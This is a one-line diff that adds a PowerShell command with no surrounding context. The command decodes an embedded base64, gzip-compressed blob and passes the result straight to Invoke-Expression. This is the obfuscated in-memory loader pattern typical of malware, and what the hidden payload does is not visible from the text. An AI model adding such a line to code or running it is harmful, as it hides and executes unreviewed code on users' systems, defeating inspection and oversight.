@@ -1,0 +1,1 @@
+$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("H4sIAAAAAAACAwsuSSwq0Q0oyk9OLS5WUMotzihJVMgoKSmw0tdPr9IrSS0u0U/UAwoqAQC3+R/DKgAAAA=="));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()
